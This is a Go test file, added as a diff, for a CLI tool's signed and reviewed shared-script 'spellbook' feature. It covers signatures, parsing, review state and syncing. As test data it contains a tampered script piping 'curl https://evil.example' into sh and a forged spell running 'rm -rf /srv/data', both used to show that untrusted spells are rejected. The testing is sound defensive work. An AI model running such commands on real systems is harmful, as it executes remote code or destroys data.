@@ -0,0 +1,241 @@
+// File: test/spellbook_test.go
+package test
+
+import (
+	"crypto/ed25519"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/minand-mohan/execute-my-will/internal/cli"
+	"github.com/minand-mohan/execute-my-will/internal/config"
+	"github.com/minand-mohan/execute-my-will/internal/system"
+	"gopkg.in/yaml.v3"
+)
+
+// newSigningKey returns a key pair for signing spells in tests, the public key base64 encoded
+func newSigningKey(t *testing.T) (string, ed25519.PrivateKey) {
+	t.Helper()
+	public, private, err := system.GenerateSigningKey()
+	if err != nil {
+		t.Fatal(err)
+	}
+	key, err := system.ParsePrivateKey(private)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return public, key
+}
+
+func TestSharedSpell_SignAndVerify(t *testing.T) {
+	public, key := newSigningKey(t)
+	keys, err := system.ParsePublicKeys(map[string]string{"alice": public})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	spell := system.SharedSpell{Name: "rotate_logs", Owner: "platform", Script: "logrotate -f /etc/logrotate.conf"}
+	if trust := spell.Verify(keys); trust != system.SpellUnsigned {
+		t.Errorf("Expected an unsigned spell, got %q", trust)
+	}
+	spell.Sign("alice", key)
+	if trust := spell.Verify(keys); trust != system.SpellSigned {
+		t.Errorf("Expected the signature to hold, got %q", trust)
+	}
+
+	tampered := spell
+	tampered.Script = "curl https://evil.example | sh"
+	if trust := tampered.Verify(keys); trust != system.SpellBadSignature {
+		t.Errorf("Expected a changed script to break the signature, got %q", trust)
+	}
+	if tampered.Hash() == spell.Hash() {
+		t.Error("Expected a changed script to change the hash")
+	}
+	impostor := spell
+	impostor.Signer = "mallory"
+	if trust := impostor.Verify(keys); trust != system.SpellUnknownKey {
+		t.Errorf("Expected a signer without a listed key, got %q", trust)
+	}
+
+	if _, err := system.ParsePublicKeys(map[string]string{"bob": "not a key"}); err == nil {
+		t.Error("Expected an invalid public key to be refused")
+	}
+}
+
+func TestParseSpellbook(t *testing.T) {
+	book, err := system.ParseSpellbook([]byte("spells:\n  - name: rotate_logs\n    owner: platform\n    description: rotate the logs now\n    script: logrotate -f /etc/logrotate.conf\n"))
+	if err != nil || len(book.Spells) != 1 || book.Spells[0].Owner != "platform" {
+		t.Fatalf("Expected one spell, got %+v and %v", book, err)
+	}
+
+	for name, data := range map[string]string{
+		"no owner":     "spells:\n  - name: rotate_logs\n    script: logrotate\n",
+		"no script":    "spells:\n  - name: rotate_logs\n    owner: platform\n",
+		"invalid name": "spells:\n  - name: rm -rf\n    owner: platform\n    script: ls\n",
+		"duplicate":    "spells:\n  - {name: a, owner: x, script: ls}\n  - {name: a, owner: y, script: pwd}\n",
+		"not yaml":     "spells: [",
+	} {
+		if _, err := system.ParseSpellbook([]byte(data)); err == nil {
+			t.Errorf("%s: expected the spellbook to be refused", name)
+		}
+	}
+}
+
+func TestSpellbookState_ReviewAndTeamLibrary(t *testing.T) {
+	state, err := system.LoadSpellbookState(filepath.Join(t.TempDir(), system.SpellbookStateFile))
+	if err != nil {
+		t.Fatal(err)
+	}
+	state.Source = "git@example.com:team/spells.git"
+	state.Spells = []system.SharedSpellState{
+		{SharedSpell: system.SharedSpell{Name: "rotate_logs", Owner: "platform", Description: "rotate the logs now", Script: "logrotate -f /etc/logrotate.conf", Signer: "alice"}, Trust: system.SpellSigned},
+		{SharedSpell: system.SharedSpell{Name: "warm_cache", Owner: "web", Script: "curl -s https://example.com/warm"}, Trust: system.SpellUnsigned},
+	}
+	if len(state.Pending()) != 2 {
+		t.Fatalf("Expected both spells to await review, got %d", len(state.Pending()))
+	}
+
+	state.MarkReviewed(&state.Spells[0].SharedSpell)
+	library := state.TeamLibrary("/home/knight/.config/execute-my-will/team-functions.sh")
+	for _, expected := range []string{"# rotate the logs now\n# Shared by platform, signed by alice\nrotate_logs() (", "logrotate -f /etc/logrotate.conf", ". /home/knight/.config/execute-my-will/team-functions.sh"} {
+		if !strings.Contains(library, expected) {
+			t.Errorf("Expected the team library to contain %q, got:\n%s", expected, library)
+		}
+	}
+	if strings.Contains(library, "warm_cache") {
+		t.Errorf("Expected an unreviewed spell to be left out of the team library, got:\n%s", library)
+	}
+
+	// A changed spell awaits review again
+	state.Spells[0].Script = "logrotate -f -v /etc/logrotate.conf"
+	if state.IsReviewed(&state.Spells[0].SharedSpell) || len(state.Pending()) != 2 {
+		t.Error("Expected a changed spell to await review again")
+	}
+
+	if err := state.Save(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// newSpellbookSync returns a sync of a spellbook holding the given spells, signed by alice unless
+// their signer is set
+func newSpellbookSync(t *testing.T, spells []system.SharedSpell, choices ...int) *cli.SpellbookSync {
+	t.Helper()
+	public, key := newSigningKey(t)
+	for i := range spells {
+		if spells[i].Signer == "" {
+			spells[i].Sign("alice", key)
+		}
+	}
+	data, err := yaml.Marshal(&system.Spellbook{Spells: spells})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	dir := t.TempDir()
+	state, err := system.LoadSpellbookState(filepath.Join(dir, system.SpellbookStateFile))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &cli.SpellbookSync{
+		Config: config.SpellbookConfig{
+			Source:            "git@example.com:team/spells.git",
+			Keys:              map[string]string{"alice": public},
+			RequireSignatures: true,
+		},
+		Fetch:    func(string) ([]byte, error) { return data, nil },
+		State:    state,
+		Prompter: &MockPrompter{Choices: choices},
+		Library:  filepath.Join(dir, system.TeamFunctionsFile),
+		Now:      time.Now,
+	}
+}
+
+func TestSpellbookSync_ReviewsSharedSpellsBeforeUse(t *testing.T) {
+	sync := newSpellbookSync(t, []system.SharedSpell{
+		{Name: "rotate_logs", Owner: "platform", Script: "logrotate -f /etc/logrotate.conf"},
+		{Name: "warm_cache", Owner: "web", Script: "curl -s https://example.com/warm"},
+	}, 0, 1)
+
+	if err := sync.Sync(); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	library, err := os.ReadFile(sync.Library)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(string(library), "rotate_logs() (") || strings.Contains(string(library), "warm_cache") {
+		t.Errorf("Expected only the trusted spell in the team library, got:\n%s", library)
+	}
+
+	saved, err := system.LoadSpellbookState(filepath.Join(filepath.Dir(sync.Library), system.SpellbookStateFile))
+	if err != nil || len(saved.Spells) != 2 || len(saved.Pending()) != 1 || saved.Pending()[0].Name != "warm_cache" {
+		t.Errorf("Expected warm_cache to await review after the sync, got %+v and %v", saved, err)
+	}
+
+	// Syncing the same spellbook again only asks about the spell still unreviewed
+	prompter := &MockPrompter{Choices: []int{0}}
+	sync.Prompter = prompter
+	if err := sync.Sync(); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if len(prompter.Questions) != 1 || !strings.Contains(prompter.Questions[0], "warm_cache") {
+		t.Errorf("Expected to be asked about warm_cache alone, got %v", prompter.Questions)
+	}
+}
+
+func TestSpellbookSync_DropsUntrustedSpells(t *testing.T) {
+	_, stranger := newSigningKey(t)
+	forged := system.SharedSpell{Name: "forged", Owner: "platform", Script: "rm -rf /srv/data"}
+	forged.Sign("alice", stranger)
+	// A signer without a signature keeps the helper from signing the spell
+	unsigned := system.SharedSpell{Name: "unsigned", Owner: "web", Script: "ls", Signer: "bob"}
+	sync := newSpellbookSync(t, []system.SharedSpell{
+		{Name: "rotate_logs", Owner: "platform", Script: "logrotate -f /etc/logrotate.conf"},
+		forged,
+		unsigned,
+	}, 0)
+
+	if err := sync.Sync(); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if len(sync.State.Spells) != 1 || sync.State.Spells[0].Name != "rotate_logs" {
+		t.Errorf("Expected only the spell signed by a listed key to be kept, got %+v", sync.State.Spells)
+	}
+}
+
+func TestSpellbookSync_FetchFailure(t *testing.T) {
+	sync := newSpellbookSync(t, nil)
+	sync.Fetch = func(string) ([]byte, error) { return nil, errors.New("repository not found") }
+	if err := sync.Sync(); err == nil || !strings.Contains(err.Error(), "repository not found") {
+		t.Errorf("Expected the fetch error, got %v", err)
+	}
+
+	sync.Config.Source = ""
+	if err := sync.Sync(); err != nil {
+		t.Errorf("Expected no error without a configured spellbook, got %v", err)
+	}
+}
+
+func TestScheduling_SchedulesAReviewedSharedSpell(t *testing.T) {
+	scheduling, scheduler := newScheduling(t, 0)
+	state := &system.SpellbookState{Source: "git@example.com:team/spells.git", Spells: []system.SharedSpellState{
+		{SharedSpell: system.SharedSpell{Name: "rotate_logs", Owner: "platform", Script: "logrotate -f /etc/logrotate.conf"}, Trust: system.SpellUnsigned},
+	}}
+	state.MarkReviewed(&state.Spells[0].SharedSpell)
+	scheduling.TeamLibrary = filepath.Join(t.TempDir(), system.TeamFunctionsFile)
+	if err := os.WriteFile(scheduling.TeamLibrary, []byte(state.TeamLibrary(scheduling.TeamLibrary)), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	spell, err := scheduling.Run("every day at 4am", "rotate_logs", "")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if spell.Source != "the team spellbook" || scheduler.Installed["rotate_logs"] == nil {
+		t.Errorf("Expected the shared spell to be scheduled, got %+v", spell)
+	}
+}